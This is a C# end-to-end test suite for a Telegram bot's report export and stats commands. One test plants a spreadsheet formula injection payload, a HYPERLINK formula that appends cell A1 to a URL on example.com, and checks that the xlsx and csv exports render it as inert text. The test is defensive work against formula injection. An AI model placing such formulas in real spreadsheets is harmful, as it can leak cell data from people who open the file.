using System.Text;
using Assembly.Bot.Tests.Support;
using Assembly.Conversations.Statistics;
using Assembly.Conversations.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using Member = Assembly.Storage.Entities.Member;
using Assembly.FakeBotApi;
using Assembly.Storage.Entities;
using Microsoft.EntityFrameworkCore;

namespace Assembly.Bot.Tests.EndToEnd;

/// <summary>/export through the real host: the files go through the outbox and reach the server as multipart uploads.</summary>
[Trait(Suites.Name, Suites.Slow)]
public sealed class ExportTests
{
    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(30);
    private const long Admin = 1;

    [Fact]
    public async Task An_export_is_uploaded_as_two_documents_and_a_stats_request_as_a_message_and_two_photos()
    {
        using var database = new TestDatabase();
        await using var telegram = await FakeBotApiServer.StartAsync();
        await using var bot = await BotTestHost.StartAsync(database, telegram, settings: new Dictionary<string, string?> { ["Access:Admins:0"] = "telegram:1" });

        var created = TimeProvider.System.GetUtcNow().UtcDateTime.AddMinutes(-5);
        await using (var db = bot.Db())
        {
            var member = new Member { Name = "مریم نطنزی", Phone = "+989121110000", County = "نطنز", CreatedAt = created };
            db.Members.Add(member);
            await db.SaveChangesAsync();
            db.Reports.AddRange(
                new Report { Code = "RJ-1001", MemberId = member.Id, Secretariat = "rajaei", County = "نطنز", Description = "جاده روستا خاکی است", CreatedAt = created, UpdatedAt = created },
                new Report { Code = "BH-1001", MemberId = member.Id, Secretariat = "beheshti", County = "کاشان", Description = "پرونده زمین معطل است", Anonymous = true, CreatedAt = created, UpdatedAt = created, Stage = ReportStage.Closed, Outcome = ReportOutcome.Resolved });
            await db.SaveChangesAsync();
        }

        var month = SolarMonth.Of(created, TimeZoneInfo.FindSystemTimeZoneById("Asia/Tehran"));
        telegram.EnqueueText(Admin, $"/export {month.Year}/{month.Month}");
        await telegram.WaitUntilAsync(t => t.Uploads.Count >= 2, Wait);

        var uploads = telegram.Uploads;
        Assert.Equal(["sendDocument", "sendDocument"], uploads.Select(u => u.Method));
        Assert.Equal([$"reports-{month.Year:0000}-{month.Month:00}.xlsx", $"reports-{month.Year:0000}-{month.Month:00}.csv"], uploads.Select(u => u.FileName));
        Assert.All(uploads, u => Assert.Equal(Admin, u.ChatId));
        Assert.Equal("PK"u8.ToArray(), uploads[0].Bytes[..2]); // a zip package, as .xlsx files are
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, uploads[1].Bytes[..3]);
        Assert.Contains("ناشناس", System.Text.Encoding.UTF8.GetString(uploads[1].Bytes));
        Assert.Equal(2, telegram.SentTo(Admin).Count(m => m.Method == "sendDocument" && m.Text!.Contains("۲ مسئله")));

        telegram.EnqueueText(Admin, "/stats");
        await telegram.WaitUntilAsync(t => t.Uploads.Count >= 4, Wait);
        Assert.Equal(["sendPhoto", "sendPhoto"], telegram.Uploads.Skip(2).Select(u => u.Method));
        Assert.Contains(telegram.SentTo(Admin), m => m.Method == "sendMessage" && m.Text!.StartsWith("آمار مسئله‌ها", StringComparison.Ordinal));

        // Sent, each file's bytes are gone (a spreadsheet names members); the rows stay.
        await Eventually.StoredAsync(bot, async db => await db.Outbox.CountAsync(o => o.ChatId == Admin && o.Status == OutboxStatus.Sent && o.Payload.Contains("\"upload\"")) == 4);
        await using var check = bot.Db();
        Assert.Empty(await check.OutboxFiles.ToListAsync());
    }

    [Fact]
    public async Task A_description_that_begins_like_a_formula_is_text_in_both_files_and_the_phone_keeps_its_zero()
    {
        const string formula = "=HYPERLINK(\"http://example.com/?q=\"&A1,\"جزئیات\")";
        using var database = new TestDatabase();
        await using var telegram = await FakeBotApiServer.StartAsync();
        await using var bot = await BotTestHost.StartAsync(database, telegram, settings: new Dictionary<string, string?> { ["Access:Admins:0"] = "telegram:1" });

        var created = TimeProvider.System.GetUtcNow().UtcDateTime.AddMinutes(-5);
        await using (var db = bot.Db())
        {
            var member = new Member { Name = "مریم نطنزی", Phone = "+989121110000", County = "نطنز", CreatedAt = created };
            db.Members.Add(member);
            await db.SaveChangesAsync();
            db.Reports.Add(new Report { Code = "RJ-1001", MemberId = member.Id, Secretariat = "rajaei", County = "نطنز", Description = formula + "\u0001\u000B\uFFFE", CreatedAt = created, UpdatedAt = created });
            await db.SaveChangesAsync();
        }

        var month = SolarMonth.Of(created, TimeZoneInfo.FindSystemTimeZoneById("Asia/Tehran"));
        telegram.EnqueueText(Admin, $"/export {month.Year}/{month.Month}");
        await telegram.WaitUntilAsync(t => t.Uploads.Count >= 2, Wait);

        var (xlsx, csv) = (telegram.Uploads[0], telegram.Uploads[1]);
        Assert.EndsWith(".xlsx", xlsx.FileName, StringComparison.Ordinal);
        var description = Array.IndexOf(Texts.ExportColumns, "شرح مسئله");
        var phone = Array.IndexOf(Texts.ExportColumns, "شماره تماس");
        using (var document = SpreadsheetDocument.Open(new MemoryStream(xlsx.Bytes), false))
        {
            var workbook = document.WorkbookPart!;
            var sheet = (WorksheetPart)workbook.GetPartById(workbook.Workbook.Sheets!.Elements<Sheet>().Single().Id!.Value!);
            var cells = sheet.Worksheet.GetFirstChild<SheetData>()!.Elements<Row>().ElementAt(1).Elements<Cell>().ToList();
            Assert.Equal(CellValues.InlineString, cells[description].DataType!.Value);
            Assert.Null(cells[description].CellFormula);
            Assert.Equal(formula, cells[description].InlineString!.InnerText);
            Assert.Equal(CellValues.InlineString, cells[phone].DataType!.Value);
            Assert.Equal("09121110000", cells[phone].InlineString!.InnerText);
        }

        Assert.EndsWith(".csv", csv.FileName, StringComparison.Ordinal);
        var line = Encoding.UTF8.GetString(csv.Bytes).Split("\r\n")[1];
        Assert.StartsWith("RJ-1001,", line);
        Assert.Contains(",\"'=HYPERLINK(\"\"http://example.com/?q=\"\"&A1,\"\"جزئیات\"\")\",", line);
        Assert.Contains(",مریم نطنزی,۰۹۱۲۱۱۱۰۰۰۰,", line);
    }
}
